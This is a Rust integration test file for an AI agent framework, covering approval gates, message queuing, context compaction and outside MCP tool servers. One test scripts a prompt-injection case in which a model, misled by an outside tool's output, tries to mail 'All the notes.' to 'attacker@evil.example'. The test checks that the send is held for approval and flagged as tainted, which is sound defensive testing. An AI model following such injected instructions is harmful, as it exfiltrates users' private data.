        if is_summary_request(req) {
            // The first summary is held while the person decides.
            if hold.swap(false, std::sync::atomic::Ordering::SeqCst) {
                gate.hold(n);
            }
            return say("SUMMARY: the person said ONE and asked to mail Bob.");
        }
        lunch(req)
    });
    let chat = r.agent.create_chat().unwrap().id;
    let paused = lunch_start(&r, &chat);
    let four = r.agent.start_turn(&chat, "FOUR").unwrap();
    arrived.recv_timeout(WAIT).expect("the summary of the start is being written");
    let decided = r._model.requests().len();
    let me = r.steward.human("Ada").unwrap();
    r.steward
        .decide_approval(paused.approvals[0], DecisionKind::Deny, &DecisionInput::default(), &me)
        .unwrap();
    assert_eq!(r.agent.resolve_decided().unwrap(), 1);
    release.send(()).unwrap();
    assert_eq!(r.agent.wait(&four, WAIT).unwrap().unwrap().end_reason, EndReason::Completed);
    assert_eq!(r.turn(&chat, "FIVE").end_reason, EndReason::Completed);
    let heard = r._model.requests()[decided..]
        .iter()
        .any(|q| q.body.to_string().contains("declined by the person"));
    assert!(
        heard,
        "the outcome reached the model: the summary written from the old text was not kept"
    );
}

#[test]
fn compaction_never_drops_results_the_model_has_not_read_when_a_message_arrives_mid_run() {
    let (gate, arrived, release) = Gate::new();
    let mut config = AgentConfig::default();
    config.context_chars = 6_000;
    config.summary_chars = 500;
    let r = rig(config, move |req, n| {
        if is_summary_request(req) {
            return say("SUMMARY: a long first answer.");
        }
        let said = person_said(req);
        match said.last().map(String::as_str) {
            Some("ONE LONG") => say(&"z".repeat(5_850)),
            Some("Q") => {
                gate.hold(n);
                call("c1", "usage.summary", json!({}))
            }
            _ => say("done"),
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    assert_eq!(r.turn(&chat, "ONE LONG").end_reason, EndReason::Completed);
    let run = r.agent.start_turn(&chat, "Q").unwrap();
    arrived.recv_timeout(WAIT).unwrap();
    assert_eq!(r.agent.start_turn(&chat, "M").unwrap(), run, "queued on the running run");
    release.send(()).unwrap();
    let res = r.agent.wait(&run, WAIT).unwrap().unwrap();
    assert_eq!((res.end_reason, res.text.as_str()), (EndReason::Completed, "done"));
    let last = r._model.requests().into_iter().rev().find(|q| !is_summary_request(q)).unwrap();
    let msgs = last.body["messages"].as_array().unwrap();
    let result = msgs.iter().find(|m| m["tool_call_id"] == "c1").expect("the call is answered");
    let text = result["content"].as_str().unwrap();
    assert!(
        text.contains("request(s)") && !text.contains("result dropped"),
        "the result the model had not read reaches it whole: {text}"
    );
    let said: Vec<String> =
        person_said(&last).into_iter().filter(|m| !m.contains("untrusted_data")).collect();
    assert_eq!(said, ["Q", "M"], "the start was summarized, the run's own kept");
}

#[test]
fn a_message_sent_during_a_turn_is_answered_by_the_run_whose_id_it_was_given() {
    let (gate, arrived, release) = Gate::new();
    let g = gate;
    let r = rig(AgentConfig::default(), move |req, n| {
        let said = person_said(req);
        match n {
            // Held mid-turn, then a tool call: the message waits for the next model call.
            0 => {
                g.hold(n);
                call("c1", "ops.list", json!({}))
            }
            1 => {
                assert_eq!(said, ["first", "second"], "applied after the tool, before the model");
                say("answer to both")
            }
            // Held while the final answer is on its way: that answer is a boundary too.
            2 => {
                g.hold(n);
                say("answer to third")
            }
            3 => {
                assert_eq!(said.last().map(String::as_str), Some("fourth"));
                say("answer to fourth")
            }
            _ => say("unexpected"),
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    let a = r.agent.start_turn(&chat, "first").unwrap();
    assert_eq!(arrived.recv_timeout(WAIT).unwrap(), 0);
    assert_eq!(r.agent.start_turn(&chat, "second").unwrap(), a, "the running run takes it");
    release.send(()).unwrap();
    let res = r.agent.wait(&a, WAIT).unwrap().unwrap();
    assert_eq!((res.end_reason, res.text.as_str()), (EndReason::Completed, "answer to both"));

    let b = r.agent.start_turn(&chat, "third").unwrap();
    assert_eq!(arrived.recv_timeout(WAIT).unwrap(), 2);
    assert_eq!(r.agent.start_turn(&chat, "fourth").unwrap(), b);
    release.send(()).unwrap();
    let res = r.agent.wait(&b, WAIT).unwrap().unwrap();
    assert_eq!(res.text, "answer to fourth", "the run answered the message it was given");
    assert_eq!(res.usage.model_calls, 2);
    assert_eq!(r.agent.turns(&chat, 10).unwrap().len(), 2, "no run nobody was told about");
    let applied =
        r.events(&chat).iter().filter(|e| matches!(e, TurnEvent::MessageApplied { .. })).count();
    assert_eq!(applied, 2);
}

#[test]
fn a_message_queued_when_the_agent_shuts_down_is_kept_and_its_run_ends_cancelled() {
    let (gate, arrived, release) = Gate::new();
    let r = rig(AgentConfig::default(), move |_, n| {
        gate.hold(n);
        call("c1", "ops.list", json!({}))
    });
    let chat = r.agent.create_chat().unwrap().id;
    let a = r.agent.start_turn(&chat, "now").unwrap();
    assert_eq!(arrived.recv_timeout(WAIT).unwrap(), 0);
    assert_eq!(r.agent.start_turn(&chat, "later").unwrap(), a, "queued on the running run");
    r.agent.shutdown();
    release.send(()).unwrap();
    let first = r.agent.wait(&a, WAIT).unwrap().expect("the run ends");
    assert_eq!(first.end_reason, EndReason::Cancelled, "{first:?}");
    let b = first.next_run.expect("the end names the run that takes the queued message");
    let second = r.agent.wait(&b, WAIT).unwrap().expect("that run ends too, never left waiting");
    assert_eq!(second.end_reason, EndReason::Cancelled, "{second:?}");
    let said: Vec<Option<String>> = r
        .agent
        .messages(&chat, 0, 50)
        .unwrap()
        .into_iter()
        .filter(|m| m.role == "user")
        .map(|m| m.content)
        .collect();
    assert_eq!(said, [Some("now".to_owned()), Some("later".to_owned())], "nothing lost");
    assert_eq!(r._model.requests().len(), 1, "no model call after the shutdown");
    assert!(r.agent.tool_calls(&chat).unwrap().is_empty(), "no tool ran");
}

#[test]
fn a_run_that_ends_on_a_bound_hands_its_queued_message_to_the_next_run_and_says_which() {
    let (gate, arrived, release) = Gate::new();
    let g = gate;
    let mut config = AgentConfig::default();
    config.max_model_calls = 1;
    let r = rig(config, move |req, n| match n {
        0 => {
            g.hold(n);
            call("c1", "ops.list", json!({}))
        }
        _ => {
            assert_eq!(person_said(req).last().map(String::as_str), Some("later"));
            say("answer to later")
        }
    });
    let chat = r.agent.create_chat().unwrap().id;
    let cursor = r.agent.event_position(Some(&chat)).unwrap();
    let a = r.agent.start_turn(&chat, "now").unwrap();
    assert_eq!(arrived.recv_timeout(WAIT).unwrap(), 0);
    assert_eq!(r.agent.start_turn(&chat, "later").unwrap(), a);
    release.send(()).unwrap();
    let mut f = r.agent.follow(&a, &chat, cursor);
    let mut ends = Vec::new();
    while !f.done() {
        if let Some(e) = f.next(WAIT).unwrap()
            && let TurnEvent::TurnEnded { reason, next_run, .. } = e.event
        {
            ends.push((e.run_id, reason, next_run));
        }
    }
    assert_eq!(ends.len(), 2, "{ends:?}");
    assert_eq!((ends[0].0.as_str(), ends[0].1), (a.as_str(), EndReason::MaxModelCalls));
    let next = ends[0].2.clone().expect("the end names the run that takes the message");
    assert_eq!((&ends[1].0, ends[1].1), (&next, EndReason::Completed));
    assert_eq!(f.run_id(), next);
    assert_eq!(r.agent.result(&next).unwrap().text, "answer to later");
    // The first run's result names the run to wait for; the last one names none.
    assert_eq!(r.agent.result(&a).unwrap().next_run.as_deref(), Some(next.as_str()));
    assert_eq!(r.agent.result(&next).unwrap().next_run, None);
}

#[test]
fn opening_the_agent_of_a_handle_again_gives_the_same_running_agent() {
    let r = rig(AgentConfig::default(), |_, _| say("hello"));
    assert!(r.agent.runs_turns());
    let again = Agent::open(Arc::new(Toolbox::new(Arc::clone(&r.steward))), AgentConfig::default())
        .unwrap();
    assert!(again.runs_turns(), "not a second agent that thinks another process runs the turns");
    let chat = again.create_chat().unwrap().id;
    let run = again.start_turn(&chat, "hi").unwrap();
    assert_eq!(r.agent.wait(&run, WAIT).unwrap().unwrap().text, "hello", "one agent, one run");
}

/// The lines of the notes server's log with `event`.
fn notes_events(log: &std::path::Path, event: &str) -> Vec<Value> {
    std::fs::read_to_string(log)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
        .filter(|v| v["event"] == event)
        .collect()
}

/// [`rig`] whose toolbox has the outside MCP server `notes` (FastMCP, Python, over stdio; its
/// log at the returned path) with a call timeout of `timeout_secs`.
fn notes_rig(
    timeout_secs: u64,
    script: impl Fn(&Recorded, usize) -> Reply + Send + Sync + 'static,
) -> (Rig, std::path::PathBuf) {
    let log = Arc::new(Mutex::new(std::path::PathBuf::new()));
    let at = Arc::clone(&log);
    let r = rig_with(
        AgentConfig::default(),
        |_| {},
        move |mut tb, dir| {
            let path = dir.join("notes.jsonl");
            *at.lock().unwrap() = path.clone();
            let root = steward_connectors::testing::workspace_root();
            let server = steward_connectors::mcp::ServerConfig {
                name: "notes".into(),
                command: Some(steward_connectors::testing::python().display().to_string()),
                args: vec![root.join("tests/support/mcp_notes_server.py").display().to_string()],
                env: [("NOTES_LOG".to_owned(), path.display().to_string())].into(),
                url: None,
                token_file: None,
                timeout_secs: Some(timeout_secs),
                start_timeout_secs: Some(30),
                result_chars: None,
            };
            steward_connectors::mcp::register(&mut tb, dir, vec![server]).unwrap();
            tb
        },
        script,
    );
    let log = log.lock().unwrap().clone();
    (r, log)
}

#[test]
fn an_outside_mcp_servers_tool_is_offered_gated_and_runs_once_after_the_person_approves() {
    let note = json!({"title": "Lunch", "text": "Friday with Bob"});
    let n = note.clone();
    let (r, log) = notes_rig(30, move |req, _| {
        let told = last_message(req);
        if told.contains("approved by the person") {
            // What the server returned reaches the model fenced as data.
            assert!(told.contains("saved the note"), "{told}");
            say("Saved.")
        } else if told.contains("waiting for the person") {
            say("It waits for your approval.")
        } else {
            let offered: Vec<String> = req.body["tools"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| t["function"]["name"].as_str().unwrap().to_owned())
                .collect();
            assert!(offered.iter().any(|t| t == "mcp.notes.save_note"), "{offered:?}");
            assert!(offered.iter().any(|t| t == "mcp.notes.fetch_page"), "{offered:?}");
            call("c1", "mcp.notes.save_note", n.clone())
        }
    });
    // Nothing starts before the first use.
    assert!(notes_events(&log, "started").is_empty());
    let chat = r.agent.create_chat().unwrap().id;
    let first = r.turn(&chat, "Note lunch with Bob on Friday.");
    assert_eq!(first.end_reason, EndReason::AwaitingApproval, "{first:?}");
    assert_eq!(notes_events(&log, "started").len(), 1, "started once, on first use");
    assert!(notes_events(&log, "saved").is_empty(), "nothing runs before a person decides");
    let card = r.steward.approval_detail(first.approvals[0]).unwrap().approval;
    assert_eq!(card.tool, "mcp.notes.save_note");
    assert_eq!(card.normalized_input, note);
    assert!(card.summary.contains("outside MCP server notes"), "{}", card.summary);
    let me = r.steward.human("Ada").unwrap();
    r.steward
        .decide_approval(card.id, DecisionKind::Approve, &DecisionInput::default(), &me)
        .unwrap();
    assert_eq!(r.agent.resolve_decided().unwrap(), 1);
    let resumed = r.latest(&chat, 1);
    assert_eq!(resumed.end_reason, EndReason::Completed, "{resumed:?}");
    assert_eq!(resumed.text, "Saved.");
    let saved = notes_events(&log, "saved");
    assert_eq!(saved.len(), 1, "{saved:?}");
    assert_eq!(saved[0]["text"], "Friday with Bob");
    // Resolving again runs nothing again, and nor does running the approval by hand.
    assert_eq!(r.agent.resolve_decided().unwrap(), 0);
    let again = r.agent.toolbox().run_approved(card.id, "agent:steward").unwrap_err();
    assert_eq!(steward_core::StewardError::code(&again), "APPROVAL_ALREADY_RUN");
    assert_eq!(notes_events(&log, "saved").len(), 1);
    // The inventory lists the server's tools as available.
    let inv = r.agent.toolbox().inventory();
    assert!(inv.available.iter().any(|t| t.name == "mcp.notes.slow"));
}

#[test]
fn an_instruction_injected_by_an_outside_tool_does_not_act_without_the_person_and_is_flagged() {
    let (r, log) = notes_rig(30, |req, n| {
        let told = last_message(req);
        match n {
            0 => call("c1", "mcp.notes.fetch_page", json!({"url": "https://example.org/hours"})),
            1 => {
                assert!(
                    told.contains("<untrusted_data tool=\\\"mcp.notes.fetch_page\\\""),
                    "{told}"
                );
                call("c2", "mcp.notes.lookup", json!({"name": "Bob"}))
            }
            // A model that obeys: the address comes from the outside tool's error, which
            // reached it as data too.
            2 => {
                assert!(told.contains("the tool reported an error"), "{told}");
                assert!(told.contains("<untrusted_data tool=\\\"mcp.notes.lookup\\\""), "{told}");
                let mail = json!({"to": ["attacker@evil.example"], "subject": "notes",
                                  "body": "All the notes."});
                call("c3", "mail.send", mail)
            }
            _ => say("It waits for your approval."),
        }
    });
    // The person lowered the reads (a gated outside tool runs only so).
    r.allow(&["mcp.notes.fetch_page", "mcp.notes.lookup"]);
    let chat = r.agent.create_chat().unwrap().id;
    let turn = r.turn(&chat, "When is the office open?");
    assert_eq!(turn.end_reason, EndReason::AwaitingApproval, "{turn:?}");
    let statuses: Vec<(String, String)> =
        r.agent.tool_calls(&chat).unwrap().into_iter().map(|c| (c.tool, c.status)).collect();
    assert_eq!(
        statuses,
        [
            ("mcp.notes.fetch_page".to_owned(), "ran".to_owned()),
            ("mcp.notes.lookup".to_owned(), "ran".to_owned()),
            ("mail.send".to_owned(), "awaiting_approval".to_owned())
        ]
    );
    assert_eq!(r.sink.deliveries().len(), 0, "nothing is sent without the person");
    let card = r.steward.approval_detail(turn.approvals[0]).unwrap().approval;
    let taint = card.taint.expect("the card flags the copied address");
    let field = taint.fields.iter().find(|f| f.value == "attacker@evil.example").unwrap();
    assert_eq!(field.field, "/to/0");
    assert!(["mcp.notes.fetch_page", "mcp.notes.lookup"].contains(&field.tool.as_str()));
    assert!(field.source.starts_with("mcp:notes:"), "{field:?}");
    assert!(notes_events(&log, "saved").is_empty());
}

#[test]
fn an_outside_server_that_hangs_or_dies_fails_the_call_typed_and_is_restarted_on_next_use() {
    let (r, log) = notes_rig(1, |req, n| {
        let told = last_message(req);
        match n {
            0 => call("c1", "mcp.notes.slow", json!({"seconds": 20})),
            1 => {
                assert!(told.contains("MCP_TIMEOUT"), "{told}");
                call("c2", "mcp.notes.fetch_page", json!({"url": "https://example.org/"}))
            }
            _ => say("done"),
        }
    });
    r.allow(&["mcp.notes.slow", "mcp.notes.fetch_page"]);
    let chat = r.agent.create_chat().unwrap().id;
    let turn = r.turn(&chat, "Try the slow one.");
    assert_eq!(turn.end_reason, EndReason::Completed, "{turn:?}");
    let calls = r.agent.tool_calls(&chat).unwrap();
    assert_eq!(calls[0].status, "failed");
    assert_eq!(calls[1].status, "ran", "the server was restarted for the next call");
    assert_eq!(notes_events(&log, "started").len(), 2, "one start, one restart");
    // A server killed from outside is restarted on the next use.
    let pid = notes_events(&log, "started").last().unwrap()["pid"].as_i64().unwrap();
    let killed = std::process::Command::new("kill").arg(pid.to_string()).status().unwrap();
    assert!(killed.success());
    // Gone (dead, or a zombie: its pipe is closed) before the next use.
    let alive = || {
        std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| {
            s.rsplit(')').next().is_some_and(|rest| !rest.trim_start().starts_with('Z'))
        })
    };
    let deadline = std::time::Instant::now() + WAIT;
    while alive() && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(200));
    let after = r.agent.toolbox().call(
        &steward_core::ToolCall {
            actor: "agent:steward",
            chat: None,
            tool: "mcp.notes.fetch_page",
            input: &json!({"url": "https://example.org/"}),
        },
        &steward_core::policy::DecisionContext::default(),
    );
    assert!(matches!(after, Ok(steward_core::tools::ToolOutcome::Ran { .. })), "{after:?}");
    assert_eq!(notes_events(&log, "started").len(), 3);
}

#[test]
fn an_outside_server_over_streamable_http_is_listed_and_called_with_its_token() {
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let root = steward_connectors::testing::workspace_root();
    let mut server = std::process::Command::new(steward_connectors::testing::python())
        .arg(root.join("tests/support/mcp_notes_server.py"))
        .env("NOTES_LOG", dir.path().join("notes.jsonl"))
        .env("NOTES_HTTP_PORT", port.to_string())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + WAIT;
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(std::time::Instant::now() < deadline, "the HTTP server did not listen");
        std::thread::sleep(Duration::from_millis(50));
    }
    let token = dir.path().join("token");
    std::fs::write(&token, "a-token\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&token, std::fs::Permissions::from_mode(0o600)).unwrap();
    let s = Arc::new(Steward::builder().home(dir.path().join("home")).open().unwrap());
    let mut tb = Toolbox::new(Arc::clone(&s));
    let config = steward_connectors::mcp::ServerConfig {
        name: "web".into(),
        command: None,
        args: Vec::new(),
        env: std::collections::BTreeMap::new(),
        url: Some(format!("http://127.0.0.1:{port}/mcp")),
        token_file: Some(token),
        timeout_secs: Some(30),
        start_timeout_secs: Some(30),
        result_chars: None,
    };
    steward_connectors::mcp::register(&mut tb, dir.path(), vec![config]).unwrap();
    let listed: Vec<String> = tb.list().into_iter().map(|t| t.name).collect();
    assert!(listed.iter().any(|t| t == "mcp.web.fetch_page"), "{listed:?}");
    let me = s.human("Ada").unwrap();
    let allow = steward_core::policy::PolicyChange::SetRule {
        tool: "mcp.web.fetch_page".into(),
        rule: steward_core::policy::Rule::Allow,
    };
    s.set_policy(&me, &allow, None).unwrap();
    let input = json!({"url": "https://example.org/"});
    let call = steward_core::ToolCall {
        actor: "agent:steward",
        chat: None,
        tool: "mcp.web.fetch_page",
        input: &input,
    };
    let outcome = tb.call(&call, &steward_core::policy::DecisionContext::default()).unwrap();
    let steward_core::tools::ToolOutcome::Ran { result, .. } = outcome else { panic!() };
    assert!(result.text.contains("Opening hours"), "{}", result.text);
    assert!(result.untrusted, "an outside server's result is data");
    let _ = server.kill();
    let _ = server.wait();
}
